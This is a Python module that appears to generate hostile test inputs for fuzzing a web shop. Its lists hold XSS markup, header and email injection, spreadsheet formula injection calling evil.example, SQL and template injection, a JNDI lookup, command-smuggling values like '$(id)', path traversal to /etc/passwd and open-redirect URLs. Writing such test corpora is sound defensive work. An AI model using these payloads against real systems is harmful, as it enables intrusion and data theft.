"""What attackers and accidents type: markup, headers, formulas, paths, expressions, marks of direction, and their disguises."""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable
from html import escape
from urllib.parse import quote

MARKUP = (
    "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>", "</form><form action=//evil.example>", "<input name=csrf value=x>", "<!--",
    "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<plaintext>", "<template><b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "&#x3c;img&#x3e;", "&quot; onfocus=alert(1)", "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "<b", "<", ">", "<<script>script>alert(1)<</script>/script>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<table background=javascript:alert(1)>",
    "<div style=background:url(//evil.example)>", "\u2028<script>", "<scr\x00ipt>",
)  # fmt: skip
HEADERS = (
    "a\r\nSet-Cookie: x=y", "a\nBcc: victim@example.com", "a\rBcc: victim@example.com", "\r\n\r\n<html>",
    "a\r\nContent-Type: text/html\r\n\r\n<b>", "a\r\n.\r\nMAIL FROM:<x@example.com>", "a\u2028Bcc: v@example.com",
    "a\u2029Bcc: v@example.com", "a\x0bBcc: v@example.com", "a\x0cBcc: v@example.com", "a\x1cBcc: v@example.com",
    "a\x85Bcc: v@example.com", "=?utf-8?q?=0D=0ABcc:_v=40example.com?=", "=?utf-8?b?DQpCY2M6IHZAZXhhbXBsZS5jb20=?=",
    '"; filename="evil.html', "evil.html\x00.pdf", "a\r\n --boundary--", "--===============1==",
    "Ana <victim@example.com>, x", "a\r\nTo: everybody@example.com", "%0d%0aSet-Cookie:%20x=y", "a\n\nb\n--\nc",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1", ";=1+1", ",=1+1", '","=1+1', "\uff1d1+1",
    "\uff0b1+1", "\uff0d1+1", "\uff201+1", "\x00=1+1", '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")', "=DDE(1)", "|calc", "%0A=1+1", "\u200b=1+1", "\ufeff=1+1", "=1+1;=2+2", '"\n=1+1',
    "{=1+1}", "''=1+1",
)  # fmt: skip
EXPRESSIONS = (
    "' OR '1'='1", '" OR ""="', "1; DROP TABLE returns", "1' UNION SELECT * FROM sessions--", "#pk = :pk",
    "attribute_exists(pk)", "begins_with(sk, :x)", ":v0", "#n0", "REMOVE email", "SET version = :v", "size(lines) > :zero",
    '{"$ne": null}', '{"S": "x"}', '{"Key": {"pk": {"S": "x"}}}', "SHOP#azulu#ORDER#", "pk|sk", "a#b#c", "a/b", "RETURN#1",
    "$where: 1", "admin'--", "*)(uid=*", "__proto__", "constructor", "null", "None", "true", "NaN", "Infinity", "-0",
    "1e309", "0x10", "9" * 400,
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{%raw%}{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{#", "#}", "${7*7}", "#{7*7}", "<%=7*7%>",
    "%(name)s", "%s%s%s%n", "{0.__class__}", "{shop}", "%", "%%", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "| id",
    "; id", "&& id", "%(day)s %(number)",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "..%2f..%2f", "/etc/passwd", "photos/nurana/x", "labels/../photos",
    "./.", "..", "....//", "a/../../b", "\\\\evil\\share", "file:///etc/passwd", "con", "nul.pdf", "a\x00.pdf", "~root",
    "a" * 1500, "incoming/photos/azulu/x", ".", "/", "//", "%00",
)  # fmt: skip
ADDRESSES = (
    "//evil.example", "/\\evil.example", "\\/evil.example", "https://evil.example", "https:evil.example",
    "http:///evil.example", "///evil.example", "/%2fevil.example", "/%5cevil.example", "https://azulu@evil.example",
    "https://127.0.0.1:8000@evil.example", "/\tevil.example", "/\n/evil.example", "\x01https://evil.example",
    " https://evil.example", "/azulu/../../evil", "/azulu//evil.example", "?lang=x", "#x",
    "https://evil.example/\r\nSet-Cookie: x=y", "/staff/../../nurana", "@evil.example", ".evil.example", "/;@evil.example",
    "/azulu/items\\@evil",
)  # fmt: skip
LOGS = (
    'a\n{"event": "request", "status": 200}', '"}\n{"event": "signed_in"}', "\x1b[31mred\x1b[0m", "a\u2028{}",
    '", "admin": "yes', "\\u000a{}", "a\r{}", "\\", '\\"',
)  # fmt: skip
PAPER = (
    ") Tj ET BT (evil", "(((((", ")))))", "\\)", "<</S/JavaScript/JS(app.alert(1))>>", "/OpenAction", "endstream endobj",
    "%PDF-1.7", "%%EOF", "stream\nBT", "**bold** __under__ --strike--", "[x](http://evil.example)",
    "<a href=//evil.example>x</a>", "{nb}",
)  # fmt: skip
MARKS = (
    "\u202egnp.exe", "\u2066x", "\u2069x", "\u202ax\u202bx", "\u202dx", "\u200fx", "\u061cx", "x\u0300" + "\u0301" * 200,
    "\ufffe\uffff", "\ud800", "\udfff\ud800", "\U000e0001\U000e0041", "\u0000", "\x7f\x80\x9f", "\ufeff", "\u00ad" * 20,
    "👩‍👩‍👧‍👦🏳️‍🌈", "ﷺﷺ", "𝒜𝓏𝓊𝓁𝓊", "İıſ", "ß", "ۀ‌ی‌ك", "۱۲۳٤٥٦", "½⅓²", "\u3164", "\u2800", "\u115f", "a\u0338=", "\u180e",
)  # fmt: skip
BASES = tuple(dict.fromkeys((*MARKUP, *HEADERS, *FORMULAS, *EXPRESSIONS, *TEMPLATES, *PATHS, *ADDRESSES, *LOGS, *PAPER, *MARKS)))

DISGUISES: tuple[Callable[[str], str], ...] = (
    str.upper,
    lambda text: quote(text, errors="ignore"),
    lambda text: quote(quote(text, errors="ignore")),
    escape,
    lambda text: f"Linen dress {text}",
    lambda text: f"{text}{text}",
    lambda text: f'">{text}',
    lambda text: f"'{text}'",
    lambda text: f"\u2067{text}\u2069",
    lambda text: f"سلام {text} ",
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: "\u200b".join(text[:40]),
    lambda text: f"\r\n{text}",
    lambda text: unicodedata.normalize("NFD", text),
)


def payloads(count: int, chance: random.Random) -> list[str]:
    """Return so many different payloads: plain ones, all of them if there is room, and then disguised ones."""
    if count < len(BASES):
        return chance.sample(BASES, count)
    found = dict.fromkeys(BASES)
    while len(found) < count:
        found[chance.choice(DISGUISES)(chance.choice(BASES))[:2000]] = None
    return list(found)
